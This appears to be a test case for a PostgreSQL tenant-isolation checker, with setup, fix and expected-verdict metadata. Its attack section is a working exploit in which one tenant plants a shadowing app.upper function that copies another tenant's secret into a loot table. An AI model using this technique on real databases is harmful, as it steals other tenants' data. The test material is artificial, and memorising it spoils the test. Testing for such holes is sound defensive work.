-- title: a tenant plants a function that fits better than pg_catalog's in a schema that others search
-- class: grants
-- severity: critical
-- kind: static
-- leaks: attack /CANARY_B/
-- answer: flagged: `schema_create app`

--@ setup
grant create on schema app to app;
create table app.letters (id int primary key, tenant_id text not null default t.tenant(), secret varchar);
insert into app.letters values (1, 'B', 'CANARY_B');
grant select on app.letters to app;
select t.protect('app.letters');
select format('alter role app in database %I set search_path = app, public', current_database()) \gexec
--@ fix
revoke create on schema app from app;
--@ attack
:enter_a
create table app.loot (s text);
create function app.upper(varchar) returns text language sql
  as $$ insert into app.loot values ($1); select pg_catalog.upper($1::text) $$;
commit;
\c - app
\o /dev/null
:enter_b
select upper(secret) from letters;
commit;
\o
:enter_a
select * from app.loot;
commit;
